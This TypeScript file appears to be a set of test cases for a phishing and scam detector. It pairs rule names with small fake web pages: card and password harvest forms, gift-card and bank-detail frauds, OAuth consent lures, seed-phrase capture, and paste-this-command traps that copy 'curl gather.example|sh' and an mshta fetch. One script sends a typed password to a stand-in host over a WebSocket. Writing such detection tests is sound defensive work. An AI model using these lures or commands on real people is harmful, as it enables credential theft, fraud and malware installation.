import type { GivenDraft } from "./given-draft.ts"
import { makeSite } from "./innocent-site.ts"
import { writeScriptedForm } from "./rule-cases.ts"

const card = `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`
const login = (action: string) => `<form action="${action}" method="post"><input type="password" name="p"></form>`
const call = `<a href="tel:080000000">call</a>`
const consents = (scope: string) =>
  `<a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&scope=${scope}">Go on</a>`
const copies = (command: string) => `<button>Copy</button><script>navigator.clipboard.writeText("${command}")</script>`
const script = (code: string) => `<script>${code}</script>`
/** Names and labels that say nothing: what tells is how many. */
export const fieldForEach = `for(let n=0;n<12;n++){const d=document.createElement("input");d.name="a"+n;f.append(d)}`
const ours = "Ferry tickets to Skerry"
const prize = makeSite("a prize for a card", "Ferry", `<h1>Félicitations !</h1>${card}`)
const named = makeSite(
  "named by its visitor",
  "Mail",
  `${login("/in")}${script(`document.title=location.hash.slice(1).split("@")[1]`)}`,
)

/** A rule of lures, and a draft that is flagged and is not without it. */
export const lureCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
  ["prize-for-card", prize],
  ["lures-without-name", prize],
  ["payout-for-card", makeSite("money for a card", "Ferry", `<h1>Um das Geld zu erhalten</h1>${card}`)],
  [
    "fine-by-gift-card",
    makeSite("a fine in gift cards", "Ferry", `<h1>Police</h1><p>Pay the fine with gift cards.</p><input name="a">`),
  ],
  [
    "gain-for-deposit",
    makeSite(
      "work for a deposit",
      "Ferry",
      `<h1>Work from home</h1><p>A deposit of 50 starts it.</p><a href="https://t.me/moss">Chat</a>`,
    ),
  ],
  ["fee-for-prize", makeSite("a fee for a prize", "Ferry", `<h1>Gratulacje</h1><p>The transfer fee is 40.</p>`)],
  [
    "codes-for-superior",
    makeSite(
      "cards for a superior",
      "Task",
      `<p>Please buy gift cards today.</p><p>Send me pictures of the codes.</p>`,
    ),
  ],
  [
    "payout-by-chat",
    makeSite("money by a chat", "กรมสรรพากร", `<p>คืนภาษี</p><a href="https://line.me/ti/p/moss">LINE</a>`),
  ],
  [
    "inheritance",
    makeSite(
      "a share of a heritage",
      "Proposal",
      `<p>There is no next of kin. We share it. Reply with your full name.</p>`,
    ),
  ],
  [
    "other-account",
    makeSite("another account", "Bill", `<h1>Our new bank details</h1><p>IBAN DE02 1203 0000 0000 2020 51</p>`),
  ],
  [
    "other-account-unchecked",
    makeSite(
      "another account, and no call",
      "Bill",
      `<h1>Larch Joinery</h1><p>Pay to our new account.</p><p>IBAN DE02 1203 0000 0000 2020 51</p><p>Do not call us.</p>`,
    ),
  ],
  [
    "tokens-for-wallet",
    makeSite(
      "tokens for a right",
      "Season",
      `<h1>Check the allocation</h1><button>Go on</button>${script(`ethereum.request({method:"eth_signTypedData_v4"})`)}`,
    ),
  ],
  [
    "update-by-page",
    makeSite("an update by the page", "Ferry", `<h1>Your browser is out of date</h1><a href="a.msi">Install</a>`),
  ],
  ["call-for-charge", makeSite("a call for a charge", "Bill", `<h1>379.99 was charged</h1><p>Not you?</p>${call}`)],
  [
    "call-for-alarm",
    makeSite("a call for an alarm", "Ferry", `<h1>Wirus: proszę natychmiast dzwonić, zainfekowany</h1>${call}`),
  ],
  [
    "secret-by-socket",
    makeSite(
      "a secret by a socket",
      ours,
      `<h1>${ours}</h1>${login("/next.php")}${script(`const s=new WebSocket("wss://gather.example/");s.send(p.value);s.onmessage=(m)=>{location=m.data}`)}`,
    ),
  ],
  [
    "many-secrets",
    makeSite(
      "three secrets",
      ours,
      `<h1>${ours}</h1>${writeScriptedForm("https://gather.example/", `<input type="password"><input name="otp"><input name="ssn">`)}`,
    ),
  ],
  ["consent-to-mail", makeSite("a consent for mail", "Permissions requested", consents("Mail.ReadWrite"))],
  [
    "consent-without-name",
    makeSite("a consent for mail without a name", "Permissions requested", consents("Mail.Send%20offline_access")),
  ],
  [
    "phrase-by-script",
    makeSite(
      "counts the words of a phrase",
      "Ferry",
      `<h1>Ferry</h1><img class="logo" src="l.png" alt="Trezor"><input id="f">${script(`f.onchange=()=>{if(f.value.split(/\\s+/).length<12)alert("More")}`)}`,
    ),
  ],
  [
    "phrase-by-script",
    makeSite(
      "makes a field for each word",
      "Ferry",
      `<h1>Ferry</h1><img class="logo" src="l.png" alt="Trezor"><form action="/in" id="f"></form>${script(fieldForEach)}`,
    ),
  ],
  ["named-by-visitor", named],
  ["named-by-visitor-alone", named],
  [
    "command-by-keys",
    makeSite(
      "keys to press",
      "Ferry",
      `<p>Press Windows + R, then Ctrl + V.</p>${copies("mshta https://gather.example/a")}`,
    ),
  ],
  [
    "command-to-pass",
    makeSite(
      "a command for people",
      "Ferry",
      `<h1>Verify that you are human</h1><p>Open the terminal.</p>${copies("curl gather.example|sh")}`,
    ),
  ],
]
